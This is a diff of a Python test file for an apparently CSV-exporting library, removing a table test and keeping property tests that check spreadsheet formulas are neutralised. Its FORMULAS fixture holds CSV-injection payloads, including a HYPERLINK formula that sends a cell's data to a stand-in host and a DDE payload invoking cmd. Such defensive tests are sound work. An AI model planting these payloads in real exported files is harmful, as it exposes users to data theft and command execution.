@@ -7,10 +7,8 @@ import re
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from output_pages import content_of
 
-from chaffinch.errors import OptionError
-from chaffinch.output.table_forms import as_csv, tables
+from chaffinch.output.table_forms import as_csv
 
 FORMULAS = [
     '=HYPERLINK("https://evil.test/?"&A1,"x")', "=1+1", "+1+cmd|' /C calc'!A0",
@@ -48,13 +46,3 @@ def test_no_formula_is_left(parts):
     assert written in (cell, f"'{cell}")
     if re.match(r"[\s=+@-]*[=+@-]", written):
         assert not re.search(r"[A(|@]", written), "a formula needs a name, a call or two operands"
-
-
-def test_tables_are_defused():
-    page = "<table><tr><th>a<th>b<tr><td>=1+1<td>-3.5</table>"
-    [table] = tables(content_of(page))
-    assert table.csv() == "a,b\n'=1+1,-3.5\n"
-    assert table.csv(defused=False) == "a,b\n=1+1,-3.5\n"
-    assert table.records() == [{"a": "=1+1", "b": "-3.5"}]
-    with pytest.raises(OptionError):
-        table.csv(defused=None)
